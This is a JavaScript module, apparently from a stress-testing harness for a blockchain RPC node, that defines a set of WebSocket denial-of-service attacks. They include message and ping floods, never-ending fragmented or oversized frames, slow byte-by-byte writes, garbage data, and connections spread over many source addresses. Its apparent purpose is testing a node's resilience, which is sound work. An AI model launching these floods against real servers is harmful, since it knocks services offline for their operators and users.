/** Attacks by WebSocket frames that cost more than their bytes. */

import { randomBytes } from 'node:crypto';
import { requestOf } from '../../test/rpc-client.js';
import { frameOf, handshakeOf } from '../harness/frames.js';
import { connectMany, flood } from './client.js';
import { connectAndReset } from './http-attacks.js';

/** First bytes of frames (RFC 6455, 5.2): a complete text, its first part, a continuation, ping and pong. */
const TEXT = 0x81;
const FIRST = 0x01;
const NEXT = 0x00;
const PING = 0x89;
const PONG = 0x8a;

/** Bit of a masked frame. */
const MASKED = 0x80;
/** Bytes that are written at a time: as many as a node reads. */
const WRITTEN_BYTES = 64 * 1024;
/** Fragments of a message that does not end: nearly as many as a node takes. */
const FRAGMENTS = 4_000;
/** Number of addresses of distributed attackers. */
const ADDRESSES = 16;

const HANDSHAKE = handshakeOf('localhost', '/', [
  'Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits',
]);

const SPACE = Buffer.from(' ');
const shortRequest = Buffer.from(requestOf('eth_blockNumber'));

/**
 * @typedef {import('./client.js').Target} Target
 * @typedef {import('node:net').Socket} Socket
 */

/**
 * As many of a frame as are written at a time.
 *
 * @param {Buffer} one
 */
function many(one) {
  const count = Math.floor(WRITTEN_BYTES / one.length);
  return Buffer.alloc(count * one.length, one);
}

/**
 * Opens WebSockets.
 *
 * @param {Target} target
 * @param {number} count
 * @param {(socket: Socket) => void} use
 */
function connectWebSockets(target, count, use) {
  connectMany(target, count, (socket) => {
    socket.once('data', () => use(socket));
    socket.write(HANDSHAKE);
  });
}

/**
 * Opens WebSockets that send the same frame again and again.
 *
 * @param {Target} target
 * @param {number} count
 * @param {Buffer} one
 * @param {Buffer} [first] a frame that comes before all others
 */
function floodFrames(target, count, one, first = Buffer.alloc(0)) {
  const frames = many(one);
  connectWebSockets(target, count, (socket) => flood(socket, frames, first));
}

/**
 * A target for attackers of other addresses.
 *
 * @param {Target} target
 * @returns {Target[]}
 */
function fromSeveral({ port, from }) {
  const [last = 0, ...others] = from.split('.').reverse().map(Number);
  return Array.from({ length: ADDRESSES }, (_, index) => {
    const address = [last + index, ...others].reverse().join('.');
    return { port, from: address };
  });
}

/** @type {import('./attacks.js').Attacks} */
export const WEB_SOCKET_ATTACKS = {
  'WebSockets: empty messages, 1 connection': (target) => floodFrames(target, 1, frameOf(TEXT)),
  'WebSockets: empty messages, 300 connections': (target) => floodFrames(target, 300, frameOf(TEXT)),
  'WebSockets: tiny requests, 16 connections': (target) =>
    floodFrames(target, 16, frameOf(TEXT, shortRequest)),
  'WebSockets: tiny requests, 320 connections of 16 addresses': (target) => {
    for (const one of fromSeveral(target)) floodFrames(one, 20, frameOf(TEXT, shortRequest));
  },
  'WebSockets: tiny requests whose responses are not read, 64 connections': (target) =>
    connectWebSockets(target, 64, (socket) => {
      flood(socket, many(frameOf(TEXT, shortRequest)));
      socket.pause();
    }),
  'WebSockets: fragments of one byte, 64 connections': (target) =>
    floodFrames(target, 64, frameOf(NEXT, SPACE), frameOf(FIRST, SPACE)),
  'WebSockets: fragments of one byte, 50 connections, and 400 connects and resets a second': (target) => {
    floodFrames(target, 50, frameOf(NEXT, SPACE), frameOf(FIRST, SPACE));
    connectAndReset(target, 400);
  },
  'WebSockets: messages in 4,000 fragments that do not end, 300 connections': (target) =>
    connectWebSockets(target, 300, (socket) => {
      const fragments = Buffer.alloc(FRAGMENTS * frameOf(NEXT, SPACE).length, frameOf(NEXT, SPACE));
      socket.resume().write(Buffer.concat([frameOf(FIRST, SPACE), fragments]));
    }),
  'WebSockets: messages of 5 MiB that do not end, 300 connections': (target) => {
    const bytes = 5 * 1024 * 1024;
    const head = Buffer.alloc(14);
    head.set([TEXT, MASKED | 127]);
    head.writeBigUInt64BE(BigInt(bytes), 2);
    const message = Buffer.concat([head, Buffer.alloc(bytes - 1, SPACE)]);
    connectWebSockets(target, 300, (socket) => socket.resume().write(message));
  },
  'WebSockets: fragments without a byte, 64 connections': (target) =>
    floodFrames(target, 64, frameOf(NEXT), frameOf(FIRST)),
  'WebSockets: one message byte by byte, 64 connections': (target) =>
    connectWebSockets(target, 64, (socket) => {
      socket
        .setNoDelay()
        .resume()
        .write(Buffer.from([TEXT, MASKED | 127, 0, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0, 0]));
      const write = () => {
        if (socket.destroyed) return;
        for (let count = 0; count < 16; count += 1) socket.write(' ');
        setImmediate(write);
      };
      write();
    }),
  'WebSockets: pings, 64 connections': (target) => floodFrames(target, 64, frameOf(PING, SPACE)),
  'WebSockets: pings whose pongs are not read, 64 connections': (target) =>
    connectWebSockets(target, 64, (socket) => {
      flood(socket, many(frameOf(PING, Buffer.alloc(125))));
      socket.pause();
    }),
  'WebSockets: pongs, 300 connections': (target) => floodFrames(target, 300, frameOf(PONG)),
  'WebSockets: garbage, 300 connections': (target) =>
    connectWebSockets(target, 300, (socket) => flood(socket, randomBytes(WRITTEN_BYTES))),
  'WebSockets: what comes behind a close, 300 connections': (target) =>
    connectWebSockets(target, 300, (socket) => flood(socket, many(frameOf(TEXT)), frameOf(0x88))),
};
